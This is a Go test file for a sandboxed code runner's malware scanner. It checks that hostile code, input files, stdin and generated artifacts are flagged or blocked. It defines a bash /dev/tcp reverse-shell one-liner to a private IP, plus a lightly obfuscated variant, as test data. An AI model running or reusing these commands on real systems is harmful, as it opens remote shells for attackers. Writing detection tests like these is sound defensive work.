package scenarios

import (
	"os"
	"strings"
	"testing"

	"codesession.dev/warden/internal/protocol"
)

const reverseShell = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"

func TestHostileCodeIsRefused(t *testing.T) {
	g := boot(t)
	g.prove()
	order := g.order("exit", "0")
	code := reverseShell
	order.Code, order.Scan = &code, &protocol.ScanPolicy{Mode: "Block"}
	g.send(protocol.Run, order)
	result := g.result()
	wants(t, result, protocol.PolicyViolation)
	if result.CodeStarted || result.Scan == nil || result.Scan.Verdict != "Malicious" || !strings.Contains(result.Message, "reverse-shell-devtcp") {
		t.Errorf("%+v %+v", result, result.Scan)
	}
	if _, err := os.Stat(g.dir + "/work/main.txt"); err == nil {
		t.Error("the code was written")
	}
}

func TestHostileInputFilesAndStdinAreRefused(t *testing.T) {
	for name, change := range map[string]func(*protocol.RunBody){
		"file": func(o *protocol.RunBody) {
			o.Files = []protocol.InputFile{{Path: "in/run.sh", Data: []byte(reverseShell)}}
		},
		"stdin": func(o *protocol.RunBody) { o.Stdin = "#!/bin/sh\n" + reverseShell },
	} {
		g := boot(t)
		g.prove()
		order := g.order("exit", "0")
		order.Scan = &protocol.ScanPolicy{Mode: "Block"}
		change(order)
		g.send(protocol.Run, order)
		result := g.result()
		if result.Ending != protocol.PolicyViolation || result.CodeStarted {
			t.Errorf("%s: %s %+v", name, result.Ending, result.Scan)
		}
	}
}

func TestScanIsRecordedByDefault(t *testing.T) {
	result := outcome(t, func(o *protocol.RunBody) {
		o.Files = []protocol.InputFile{{Path: "run.sh", Data: []byte(reverseShell)}}
		shell(o, "echo ran")
	})
	wants(t, result, protocol.Exited)
	if result.Scan == nil || result.Scan.Verdict != "Malicious" || len(result.Scan.Matches) == 0 || result.Scan.Matches[0].File != "run.sh" {
		t.Errorf("%+v", result.Scan)
	}
}

func TestBenignCodeIsClean(t *testing.T) {
	result := outcome(t, func(o *protocol.RunBody) {
		o.Scan = &protocol.ScanPolicy{Mode: "Block"}
		shell(o, "echo ran")
	})
	wants(t, result, protocol.Exited)
	if result.Scan == nil || result.Scan.Verdict != "Clean" || result.Scan.Matches == nil {
		t.Errorf("%+v", result.Scan)
	}
}

func TestArtifactsAreScanned(t *testing.T) {
	result := outcome(t, func(o *protocol.RunBody) {
		shell(o, "d=dev; echo \"bash -i >& /$d/tcp/10.0.0.1/4444 0>&1\" > made.sh")
		o.Artifacts.Paths = []string{"made.sh"}
	})
	wants(t, result, protocol.Exited)
	if result.Scan == nil || result.Scan.Verdict != "Malicious" || result.Scan.Matches[0].File != "made.sh" {
		t.Errorf("%+v", result.Scan)
	}
}

func TestUnknownScanModeDoesNotStart(t *testing.T) {
	g := boot(t)
	g.prove()
	order := g.order("exit", "0")
	order.Scan = &protocol.ScanPolicy{Mode: "Maybe"}
	g.send(protocol.Run, order)
	wants(t, g.result(), protocol.NotStarted)
}
